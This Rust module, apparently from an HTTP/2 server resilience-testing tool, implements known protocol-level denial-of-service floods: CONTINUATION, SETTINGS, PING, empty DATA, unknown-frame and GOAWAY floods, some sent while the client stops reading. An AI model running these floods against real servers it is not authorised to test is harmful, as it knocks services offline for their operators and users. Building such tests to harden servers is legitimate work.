//! Frames that cost their sender nothing.

use super::{OFTEN, health, open_streams};
use crate::attacker::Attacker;
use crate::frame::{CONTINUATION, END_STREAM, HEADERS, NONE, PRIORITY, Wire};

pub(super) async fn continuation_flood(attacker: &Attacker) -> anyhow::Result<()> {
    let health = health();
    attacker
        .keep_on(
            OFTEN,
            |wire| {
                wire.preface(&[]);
                let stream = wire.stream();
                wire.frame(HEADERS, END_STREAM, stream, health.bytes());
            },
            |wire| {
                for _ in 0..50 {
                    wire.frame(CONTINUATION, NONE, 1, b"\0\x01x\x01x");
                }
            },
        )
        .await
}

pub(super) async fn settings_flood(attacker: &Attacker) -> anyhow::Result<()> {
    attacker.keep_on(OFTEN, after_a_request, settings).await
}

pub(super) async fn unread_settings_flood(attacker: &Attacker) -> anyhow::Result<()> {
    let mut pace = attacker.pace(OFTEN);
    let mut peer = None;
    while pace.next().await {
        let mut standing = match peer.take() {
            Some(peer) => peer,
            None => {
                let Some(mut fresh) = attacker.enter().await? else {
                    continue;
                };
                after_a_request(&mut fresh.wire);
                fresh.stop_reading();
                fresh
            }
        };
        settings(&mut standing.wire);
        peer = attacker.sent(standing).await;
    }
    Ok(())
}

pub(super) async fn ping_flood(attacker: &Attacker) -> anyhow::Result<()> {
    let pings = |wire: &mut Wire| (0..100).for_each(|_| wire.ping());
    attacker.keep_on(OFTEN, after_a_request, pings).await
}

pub(super) async fn empty_data(attacker: &Attacker) -> anyhow::Result<()> {
    let nothing = |wire: &mut Wire| (0..100).for_each(|_| wire.data(1, b""));
    attacker
        .keep_on(OFTEN, |wire| open_streams(wire, 1), nothing)
        .await
}

pub(super) async fn unknown_frames(attacker: &Attacker) -> anyhow::Result<()> {
    attacker
        .keep_on(OFTEN, after_a_request, |wire| {
            for _ in 0..50 {
                wire.frame(0xfa, NONE, 0, &[0; 64]);
                wire.frame(PRIORITY, NONE, 1, &[0, 0, 0, 0, 7]);
            }
        })
        .await
}

pub(super) async fn goaway(attacker: &Attacker) -> anyhow::Result<()> {
    let health = health();
    attacker
        .keep_on(
            OFTEN,
            |wire| wire.preface(&[]),
            |wire| {
                for _ in 0..50 {
                    wire.goaway();
                }
                let stream = wire.stream();
                wire.request(stream, health.bytes());
            },
        )
        .await
}

/// A connection that has asked something, so that it is not ended for its silence.
fn after_a_request(wire: &mut Wire) {
    wire.preface(&[]);
    let stream = wire.stream();
    wire.request(stream, health().bytes());
}

fn settings(wire: &mut Wire) {
    (0..100).for_each(|_| wire.settings(&[(3, 100)]));
}
